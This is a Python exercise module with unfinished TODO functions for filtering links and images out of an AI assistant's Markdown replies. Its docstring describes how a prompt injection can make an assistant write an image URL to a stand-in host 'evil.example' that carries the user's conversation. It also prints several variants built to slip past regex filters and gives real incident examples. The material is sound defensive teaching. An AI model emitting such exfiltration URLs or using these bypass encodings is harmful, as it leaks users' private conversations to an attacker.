r"""Render a model's Markdown without letting it phone home.

The scenario
------------

Your chat UI renders the assistant's replies as Markdown. A prompt injection hidden in
a web page, an email or a document the assistant reads can make it write

    ![loading](https://evil.example/pixel.png?q=<the user's conversation, encoded>)

The user's client fetches every image in the reply on its own, so the data leaves
with zero clicks: the attacker just reads their server's log. MITRE ATLAS calls this
AML.T0077 LLM Response Rendering; EchoLeak (CVE-2025-32711) used reference-style
Markdown to get such a URL past Microsoft 365 Copilot's link filtering. Links leak the
same way when clicked, and `javascript:` links run code in a web UI.

Why not regular expressions
---------------------------

A filter that searches the Markdown text has to find every URL exactly where the
renderer will, and Markdown has too many ways to write one. Each of these renders as
an image from evil.example in CommonMark renderers, yet looks harmless to a regex:

    ![x](https://evil.example&num;@img.example.com/p.png)    &num; is decoded to "#"
    ![x](https://evil.example/p.png?q=((SECRET)))           nested parentheses
    ![x][r]<a lone \r>[r]: https&colon;//evil.example/x.png  old Mac line ending
    ![x][r]  ...  -   > [r]: https://evil.example/x.png      a definition in a list
                                                             item's block quote

So you let the parser that renders (markdown-it-py, CommonMark) read the text, and
decide on what it found.

The tokens
----------

`MD.parse(md)` returns block tokens; each `inline` token's `.children` are the
inline tokens of one paragraph or heading. Try it in the REPL:

    >>> md = "See ![logo][1] <https://evil.example/?q=1> <b>hi</b>\n\n[1]: https://x.example/l.png"
    >>> for token in MD.parse(md)[1].children:
    ...     print(token.type, token.attrs, repr(token.markup), repr(token.content))
    text {} '' 'See '
    image {'src': 'https://x.example/l.png', 'alt': ''} '' 'logo'
    text {} '' ' '
    link_open {'href': 'https://evil.example/?q=1'} 'autolink' ''
    text {} '' 'https://evil.example/?q=1'
    link_close {} 'autolink' ''
    text {} '' ' '
    html_inline {} '' '<b>'
    text {} '' 'hi'
    html_inline {} '' '</b>'

- `image`: `token.attrGet("src")` is its URL, `token.content` its alt text.
- `link_open` ... `link_close`: `token.attrGet("href")` of the link_open is the URL;
  the tokens in between are the link's text. An autolink (`<https://...>`) is a link
  whose link_open has `token.markup == "autolink"`, and its text is the URL itself.
- `html_inline`: a raw HTML tag such as `<img src=...>` or `</a>`.
- The types in `PLAIN_INLINE` (text, line breaks, code, emphasis) carry no URL.

The URLs in the tokens are the ones the renderer will use: entities decoded, escapes
applied, reference definitions resolved (wherever and however they were written),
percent-encoded. `![logo][1]` above is an `image` token whose src comes from `[1]:`.

What to implement
-----------------

    is_allowed_url(url: str, allowed_hosts: set[str]) -> bool
    safe_inline(children: list[Token], allowed_hosts: set[str]) -> list[Token]

`is_allowed_url(url, allowed_hosts)` is True only when ALL of these hold (it never
raises; anything that is not a str gives False):

1. `url` contains no backslash, no whitespace and no control character anywhere.
   Browsers read `https://evil.example\@img.example.com/` as host evil.example
   (a backslash is a slash to them), while `urllib.parse` says img.example.com.
2. `urllib.parse.urlsplit(url)` parses it (it raises ValueError for some malformed
   URLs, e.g. `https://[img.example.com/`: that is a False, not a crash).
3. The scheme is `http` or `https`. `urlsplit` lower-cases the scheme for you;
   `javascript:`, `data:`, `file:`, relative and protocol-relative (`//host/x`) URLs
   are all False.
4. The host, `urlsplit(url).hostname` (lower-cased, without user name, password and
   port), is EXACTLY one of `allowed_hosts`, compared in lower case. No substring, no
   suffix match, no subdomains: `img.example.com.evil.example`,
   `https://img.example.com@evil.example/` (the host is after the @) and
   `cdn.img.example.com` are all False, and so are look-alikes in other scripts.

`safe_inline(children, allowed_hosts)` returns a NEW list of the tokens to keep:

1. `image`: keep it if `is_allowed_url(src)`; otherwise put
   `text_token("[image: ALT]")` in its place (ALT is `token.content.strip()`; just
   `"[image]"` when that is empty).
2. `link_open` with an allowed href: keep it, and later its `link_close`.
   A refused link: drop its `link_open` and its `link_close`, and keep the text in
   between. A refused autolink: its text is the URL, so put one
   `text_token(LINK_REMOVED)` in its place and drop everything up to and including
   its `link_close`. Links never nest in CommonMark: one flag "inside a refused link"
   is enough.
3. A type in `PLAIN_INLINE`: keep it.
4. Anything else, `html_inline` and any type you don't know: drop it. That is
   failing closed: what you cannot judge never reaches the user.

Ready to use: `render_safe_markdown(md, allowed_hosts)` parses `md`, drops raw HTML
blocks, calls your `safe_inline` for every inline token and writes Markdown with
`to_markdown()`. The output is Markdown written anew from the tokens you kept:
every text is backslash-escaped so that it stays text (`[sic]` comes out as
`\[sic\]`, which renders as [sic]), and reference links come out as inline links.
`to_markdown()` raises ValueError for a token it cannot write safely, such as raw
HTML or a link_close whose link_open you dropped.

Examples
--------

>>> hosts = {"img.example.com"}
>>> render_safe_markdown("Chart: ![sales](https://img.example.com/q1.png)", hosts)
'Chart: ![sales](https://img.example.com/q1.png)'
>>> render_safe_markdown("![x](https://evil.example/p.png?q=SECRET) [docs](https://evil.example)",
...                      hosts)
'\\[image: x\\] docs'
>>> render_safe_markdown("![logo][1]\n\n[1]: https://evil.example&num;@img.example.com/l.png",
...                      hosts)
'\\[image: logo\\]'
>>> is_allowed_url("HTTPS://IMG.EXAMPLE.COM/a.png", hosts)
True
>>> is_allowed_url("https://img.example.com@evil.example/a.png", hosts)
False

What stays, on purpose
----------------------

- A URL written as plain text (`see https://evil.example/x`) stays text. CommonMark
  does not turn it into a link, and nothing is fetched; renderers with "linkify"
  (GitHub-style) make it clickable, which needs a click.
- Raw HTML is removed even when its URLs are allowed: HTML has too many ways to carry
  a URL (src, srcset, href, poster, style) to vet one by one.

Why it matters
--------------

OWASP LLM05:2025 Improper Output Handling: model output rendered without encoding or
filtering leads to XSS and data exfiltration. Filter on the way out, as here, AND at
the renderer: a Content-Security-Policy whose `img-src` lists only your own hosts
makes the browser refuse to fetch anything else. Keep the allow-list short: in 2023
Google Bard's CSP allowed Google-owned domains, and a Google Apps Script URL on one of
them received the exfiltrated conversation; EchoLeak went through an allowed
Microsoft Teams URL. And filter the whole reply before any of it is shown: a reply
streamed to the screen token by token is on the user's screen before a filter that
waits for the end of the reply has run.
"""

from __future__ import annotations

import re
import unicodedata  # noqa: F401 - you will need it: category(ch) == "Cc" for control chars
from collections.abc import Sequence
from urllib.parse import urlsplit  # noqa: F401 - you will need it

from markdown_it import MarkdownIt
from markdown_it.token import Token

# ---------------------------------------------------------------------------
# Ready to use: the parser, the tokens you may keep, and text_token().
# ---------------------------------------------------------------------------

# The CommonMark parser, raw HTML included, so that you see it and can drop it.
MD = MarkdownIt("commonmark")

# Inline tokens that carry no URL. Keep these as they are; drop every type that is
# not here and that you have not decided on (raw HTML, anything a new version adds).
PLAIN_INLINE = frozenset({
    "text", "softbreak", "hardbreak", "code_inline",
    "em_open", "em_close", "strong_open", "strong_close",
})

LINK_REMOVED = "[link removed]"


def text_token(content: str) -> Token:
    """A new `text` token: to_markdown() writes its content as plain, escaped text."""
    token = Token("text", "", 0)
    token.content = content
    return token


# ---------------------------------------------------------------------------
# Your part
# ---------------------------------------------------------------------------


def is_allowed_url(url: str, allowed_hosts: set[str]) -> bool:
    """True if `url` is http(s) on exactly one of `allowed_hosts`; never raises."""
    # TODO: the four rules in the module docstring, in order.
    raise NotImplementedError("TODO: implement is_allowed_url(url, allowed_hosts)")


def safe_inline(children: list[Token], allowed_hosts: set[str]) -> list[Token]:
    """The inline tokens to keep: allowed links and images, and plain text."""
    # TODO: one loop over children that builds a new list, following the four rules in
    #       the module docstring. Keep a flag for "inside a refused link" (and one for
    #       "inside a refused autolink", whose text must go too).
    raise NotImplementedError("TODO: implement safe_inline(children, allowed_hosts)")


def render_safe_markdown(md: str, allowed_hosts: set[str]) -> str:
    """Markdown in which only images and links to allowed hosts remain (ready to use)."""
    if not isinstance(md, str):
        raise TypeError(f"md must be a str, not {type(md).__name__}")
    # Block-level raw HTML is never kept: drop it before writing.
    tokens = [token for token in MD.parse(md) if token.type != "html_block"]
    for token in tokens:
        if token.type == "inline":
            token.children = safe_inline(token.children or [], allowed_hosts)
    return to_markdown(tokens)


# ---------------------------------------------------------------------------
# Ready to use: to_markdown() and its helpers. You don't need to read them.
# ---------------------------------------------------------------------------


# Characters that can start Markdown syntax anywhere in a line, plus a few that
# common extensions use (~ strikethrough, | tables, $ maths, { } attributes).
_ALWAYS_ESCAPE = frozenset("\\`*_[]<>&~|${}")
_LINE_START_RE = re.compile(r"[#+=-]|\d{1,9}[.)]")
_BARE_DEST_RE = re.compile(r"[A-Za-z0-9\-._~:/?#@!$'*+,;=%]+")


def _escape_text(text: str, line_start: bool) -> str:
    out = "".join("\\" + ch if ch in _ALWAYS_ESCAPE else ch for ch in text)
    if line_start:  # headings, list markers and setext underlines only count there
        match = _LINE_START_RE.match(out)
        if match:
            end = match.end()
            out = out[: end - 1] + "\\" + out[end - 1 :]
    if out.endswith("!"):  # "!" followed by a link we write would make it an image
        out = out[:-1] + "\\!"
    return out


def _destination(url: str) -> str:
    if _BARE_DEST_RE.fullmatch(url):
        return url
    escaped = "".join("\\" + ch if ch in "\\<>&" else ch for ch in url)
    return f"<{escaped}>"


def _title(token: Token) -> str:
    title = token.attrGet("title")
    if not title:
        return ""
    escaped = "".join("\\" + ch if ch in '\\"&' else ch for ch in str(title))
    return ' "' + escaped.replace("\n", " ") + '"'


def _plain(children: Sequence[Token]) -> str:
    parts = []
    for child in children:
        if child.type in ("text", "code_inline"):
            parts.append(child.content)
        elif child.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif child.type == "image":
            parts.append(_plain(child.children or []))
    return "".join(parts)


def _inline(children: Sequence[Token], heading: bool = False) -> str:
    out: list[str] = []
    links: list[Token] = []
    line_start = True
    for token in children:
        kind = token.type
        if kind == "text":
            text = _escape_text(token.content, line_start)
            out.append(text)
            line_start = line_start and not text
            continue
        line_start = False
        if kind in ("softbreak", "hardbreak"):
            if heading:
                out.append(" ")
            else:
                out.append("\n" if kind == "softbreak" else "\\\n")
                line_start = True
        elif kind == "code_inline":
            code = token.content
            fence = "`" * (max((len(run) for run in re.findall("`+", code)), default=0) + 1)
            pad = " " if code.startswith(("`", " ")) or code.endswith(("`", " ")) else ""
            out.append(f"{fence}{pad}{code}{pad}{fence}")
        elif kind in ("em_open", "em_close", "strong_open", "strong_close"):
            out.append(token.markup)
        elif kind == "link_open":
            links.append(token)
            out.append("[")
        elif kind == "link_close":
            if not links:
                raise ValueError(
                    "to_markdown() got a link_close without its link_open: when you drop a "
                    "refused link_open, drop its link_close too."
                )
            opener = links.pop()
            href = str(opener.attrGet("href") or "")
            out.append(f"]({_destination(href)}{_title(opener)})")
        elif kind == "image":
            alt = _escape_text(_plain(token.children or []), False)
            src = str(token.attrGet("src") or "")
            out.append(f"![{alt}]({_destination(src)}{_title(token)})")
        else:
            raise ValueError(
                f"to_markdown() cannot write an inline {kind!r} token: only links, images "
                "and PLAIN_INLINE tokens are written. Drop what you cannot decide on."
            )
    if links:
        raise ValueError(
            "to_markdown() got a link_open without its link_close: keep both or drop both."
        )
    return "".join(out)


def _close(tokens: Sequence[Token], start: int) -> int:
    depth = 0
    for index in range(start, len(tokens)):
        depth += tokens[index].nesting
        if depth == 0:
            return index
    raise ValueError(f"token {tokens[start].type!r} is never closed")


def _indent(text: str, first: str, rest: str, blank: str = "") -> str:
    lines = text.split("\n")
    out = [first + lines[0] if lines[0] else first.rstrip()]
    out += [rest + line if line else blank for line in lines[1:]]
    return "\n".join(out)


def _blocks(tokens: Sequence[Token], start: int, stop: int, tight: bool = False) -> str:
    parts: list[str] = []
    index = start
    while index < stop:
        token = tokens[index]
        end = _close(tokens, index) if token.nesting == 1 else index
        kind = token.type
        if kind == "paragraph_open":
            parts.append(_inline(tokens[index + 1].children or []))
        elif kind == "heading_open":
            text = _inline(tokens[index + 1].children or [], heading=True)
            if text.endswith("#"):  # would be read as the heading's closing sequence
                text = text[:-1] + "\\#"
            parts.append("#" * int(token.tag[1]) + (" " + text if text else ""))
        elif kind == "blockquote_open":
            inner = _blocks(tokens, index + 1, end)
            parts.append(_indent(inner, "> ", "> ", blank=">") if inner else ">")
        elif kind in ("bullet_list_open", "ordered_list_open"):
            parts.append(_list(tokens, index, end))
        elif kind in ("fence", "code_block"):
            code = token.content
            if code and not code.endswith("\n"):
                code += "\n"
            longest = max((len(run) for run in re.findall("`+", code)), default=0)
            fence = "`" * max(3, longest + 1)
            info = token.info.split()[0] if kind == "fence" and token.info.strip() else ""
            info = info if re.fullmatch(r"[A-Za-z0-9_+.#-]{1,40}", info) else ""
            parts.append(f"{fence}{info}\n{code}{fence}")
        elif kind == "hr":
            parts.append("***")
        else:
            raise ValueError(
                f"to_markdown() cannot write a {kind!r} token; drop it before you call it."
            )
        index = end + 1
    return ("\n" if tight else "\n\n").join(part for part in parts)


def _list(tokens: Sequence[Token], start: int, stop: int) -> str:
    opener = tokens[start]
    ordered = opener.type == "ordered_list_open"
    number = int(opener.attrGet("start") or 1) if ordered else 0
    # markdown-it hides the paragraphs of a tight list; keep the list tight or loose.
    level = opener.level + 2
    tight = all(
        token.hidden for token in tokens[start:stop]
        if token.type == "paragraph_open" and token.level == level
    )
    items: list[str] = []
    index = start + 1
    while index < stop:
        end = _close(tokens, index)
        item = tokens[index]
        if ordered:
            marker = f"{number}{item.markup or '.'}"
            number = number + 1 if number < 999_999_999 else number
        else:
            marker = item.markup or "-"
        inner = _blocks(tokens, index + 1, end, tight=tight)
        pad = " " * (len(marker) + 1)
        if tokens[index + 1].type in ("bullet_list_open", "ordered_list_open", "hr"):
            inner = "\n" + inner  # "- - -" on one line would be a thematic break
        items.append(_indent(inner, marker + " ", pad) if inner else marker)
        index = end + 1
    return ("\n" if tight else "\n\n").join(items)


def to_markdown(tokens: Sequence[Token]) -> str:
    """Write Markdown for the block tokens of MD.parse(), with every text escaped.

    Only the links and images still in the tokens come out as links and images;
    everything else is text that any CommonMark renderer shows as text. Raises
    ValueError for a token type it cannot write safely (raw HTML among them).
    """
    return _blocks(tokens, 0, len(tokens))
